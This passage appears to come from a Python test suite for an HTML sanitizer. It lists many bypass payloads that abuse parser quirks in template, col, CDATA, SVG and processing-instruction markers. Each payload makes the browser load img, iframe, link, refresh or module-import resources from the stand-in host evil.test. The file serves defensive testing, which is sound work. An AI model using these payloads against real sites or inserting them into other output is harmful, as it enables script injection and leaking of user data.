    '<svg><desc><![CDATA[>]]><![CDATA[><a title="]]><img src=//evil.test/a>">',
    '<svg><desc><![CDATA[]<]]><a title="]]><img src=//evil.test/a>">',
]

# A template that begins with a `col`: the tree builder ignores what follows, so that no text begins there.
IGNORED_TAGS = [
    *(
        f"<template><col><{name}></template><link rel=preconnect href=//evil.test/a></{name}>"
        for name in (
            *("style", "script", "title", "textarea", "iframe", "xmp", "plaintext", "noscript", "noembed"),
            *("noframes", "svg><style", "math><mi><style", "body><style", "frameset><style", "div><style"),
        )
    ),
    *(
        f"<template>{before}<col><style></template><img src=//evil.test/a></style>"
        for before in ("x", " ", "<!---->", "<style></style>", "</table>", "</td>", "<meta><link>", "<?x>")
    ),
    "<template><col></col><style></template><img src=//evil.test/a></style>",
    "<template><col></colgroup><style></template><img src=//evil.test/a></style>",
    "<template><col><template><style></template></template><style></template><img src=//evil.test/a></style>",
    "<template><template></template><col><style></template><img src=//evil.test/a></style>",
    "<template><col><template></template><style></template><img src=//evil.test/a></style>",
    "<template><col><svg><template/></template><style></template></template><img src=//evil.test/a></style>",
    '<template><col><svg></template><style><a title="</style><img src=//evil.test/a>">',
    '<template><col><svg></template><![CDATA[><a title="]]><img src=//evil.test/a>">',
    "<div><template shadowrootmode=open><col><textarea></template><img src=//evil.test/a></textarea></div>",
    "<select><template><col><style></template><img src=//evil.test/a></style></select>",
    "<table><template><col><style></template><img src=//evil.test/a></style></table>",
    "<table><colgroup><template><col><style></template><img src=//evil.test/a></style></table>",
    "<svg><desc><template><col><style></template><img src=//evil.test/a></style></desc></svg>",
    "<template><TEMPLATE></TEMPLATE><COL/><XMP></template><img src=//evil.test/a></xmp>",
]

# Templates that browsers put to use without a script.
LIVE_TEMPLATES = [
    *(
        f'<?marker name="m"?><template for="m">{inner}</template>'
        for inner in (
            '<meta http-equiv=refresh content="0;url=//evil.test/a">',
            "<img src=//evil.test/a>",
            "<iframe src=//evil.test/a></iframe>",
            "<link rel=preconnect href=//evil.test/a>",
            "<object data=//evil.test/a></object>",
            "<svg><style><img src=//evil.test/a></style></svg>",
            "<col><style></template><img src=//evil.test/a></style>",
        )
    ),
    '<div><?start name="m"?>x<?end?></div><template for="m"><embed src=//evil.test/a></template>',
    "<template for=m><p style='background:url(//evil.test/a)'>x</template><p><?marker name=m>",
    '<script type=importmap>{"imports":{}}</script><template><script type=importmap>{"imports":{"a":"/a"}}'
    '</script></template><script type=module>import "//evil.test/a"</script>',
    "<?x > <img src=//evil.test/a> ?>",
    '<?marker name=">"><img src=//evil.test/a>"?>',
]

VECTORS = [
    *BASES,
    *SPECULATION,
    *DUPLICATES,
    *DATA_URLS,
    *STYLES,
    *ODD_STYLES,
    *SCRIPTS,
    *RULES,
    *REFRESHES,
    *FOREIGN,
    *SECTIONS,
    *IGNORED_TAGS,
    *LIVE_TEMPLATES,
    *TEXT,
    *ELEMENTS,
]
